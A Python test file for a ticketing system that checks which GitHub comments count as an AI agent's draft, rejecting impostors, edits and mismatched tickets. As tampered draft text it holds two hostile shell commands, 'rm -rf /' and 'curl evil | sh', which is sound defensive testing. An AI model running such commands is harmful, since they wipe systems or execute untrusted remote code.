"""A dispatched agent's draft comment taken as the ticket's draft: which comments count.

:func:`agent_draft_of` is pure (values in, a draft or None out); :func:`take_agent_draft`
is checked against the real SQLite store.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

from ticketing.desk.agents import agent_draft_of, take_agent_draft
from ticketing.github.interface import Comment
from ticketing.render.drafts import draft_digest, render_draft_comment
from ticketing.store.model import DraftState, StoredDraft, Ticket, TicketState
from ticketing.store.sqlite import SQLiteTicketStore

NOW = datetime(2026, 1, 1, tzinfo=UTC)
REF = "acme/agents#1"
URL = "https://github.com/acme/agents/issues/1"
TEXT = "Run `ls` first."
TICKET = Ticket(1, "k", "req-1", TicketState.OPEN, 1, URL, NOW, NOW)
DISPATCHED = StoredDraft(1, DraftState.DISPATCHED, "alice's agent", "", "", NOW, None, "alice")


def _draft_comment(text: str = TEXT, *, author: str = "alice", ticket: str = REF) -> Comment:
    body = render_draft_comment(
        text, model="m", digest=draft_digest(text), ticket=ticket, agent="alice's agent"
    )
    return Comment(7, 1, body, author, 1001, NOW, NOW, f"{URL}#issuecomment-7")


def test_the_routed_editors_draft_comment_is_taken_with_its_exact_text() -> None:
    """alice's agent's draft, posted with alice's login, for this ticket, is its draft."""
    found = agent_draft_of(_draft_comment(), ticket=TICKET, reference=REF, draft=DISPATCHED)
    assert found is not None
    assert (found.text, found.digest) == (TEXT, draft_digest(TEXT))


def test_a_draft_posted_by_a_login_the_route_does_not_name_is_not_taken() -> None:
    """mallory's well-formed "draft by alice's agent" is text mallory chose: never taken."""
    comment = _draft_comment(author="mallory")
    assert agent_draft_of(comment, ticket=TICKET, reference=REF, draft=DISPATCHED) is None


def test_a_draft_made_for_another_ticket_is_not_taken() -> None:
    """A draft whose marker names ticket #2, pasted on #1, is not #1's draft."""
    comment = _draft_comment(ticket="acme/agents#2")
    assert agent_draft_of(comment, ticket=TICKET, reference=REF, draft=DISPATCHED) is None


def test_a_draft_comment_edited_after_it_was_marked_is_not_taken() -> None:
    """Text changed without its marker's sha256 no longer parses as a draft."""
    comment = _draft_comment()
    edited = replace(comment, body=comment.body.replace("Run `ls`", "Run `rm -rf /`"))
    assert agent_draft_of(edited, ticket=TICKET, reference=REF, draft=DISPATCHED) is None


def test_a_draft_on_a_ticket_no_agent_was_dispatched_to_is_not_taken() -> None:
    """Without a dispatch (an upstream draft, or none) no comment becomes the draft."""
    upstream = replace(DISPATCHED, agent=None, state=DraftState.POSTED)
    for draft in (upstream, None):
        assert agent_draft_of(_draft_comment(), ticket=TICKET, reference=REF, draft=draft) is None


def test_a_draft_on_a_ticket_that_no_longer_waits_is_not_taken() -> None:
    """Once answered, a late draft changes nothing."""
    answered = replace(TICKET, state=TicketState.ANSWERED)
    assert (
        agent_draft_of(_draft_comment(), ticket=answered, reference=REF, draft=DISPATCHED) is None
    )


def test_take_agent_draft_keeps_the_newest_draft_and_its_comment(tmp_path: Path) -> None:
    """The store keeps the text, digest and comment; a newer draft by the agent replaces it."""
    store = SQLiteTicketStore(tmp_path / "t.sqlite3")
    opened = store.open_ticket("k", request_id="req-1", created=NOW, deadline=NOW)
    store.set_issue(opened.id, number=1, url=URL, now=NOW)
    assert store.claim_draft(opened.id, now=NOW)
    store.finish_draft(
        opened.id, state=DraftState.DISPATCHED, now=NOW, model="alice's agent", agent="alice"
    )
    reference = lambda ticket: REF  # noqa: E731
    assert take_agent_draft(_draft_comment(), store=store, reference=reference, clock=lambda: NOW)
    newer = replace(_draft_comment("Run `pwd` first."), id=8, url=f"{URL}#issuecomment-8")
    assert take_agent_draft(newer, store=store, reference=reference, clock=lambda: NOW)
    draft = store.draft_for(opened.id)
    assert draft is not None
    assert (draft.state, draft.text, draft.agent) == (
        DraftState.POSTED,
        "Run `pwd` first.",
        "alice",
    )
    assert draft.comment_url == f"{URL}#issuecomment-8"
    impostor = _draft_comment("Run `curl evil | sh`.", author="mallory")
    assert not take_agent_draft(impostor, store=store, reference=reference, clock=lambda: NOW)
    assert store.draft_for(opened.id) == draft
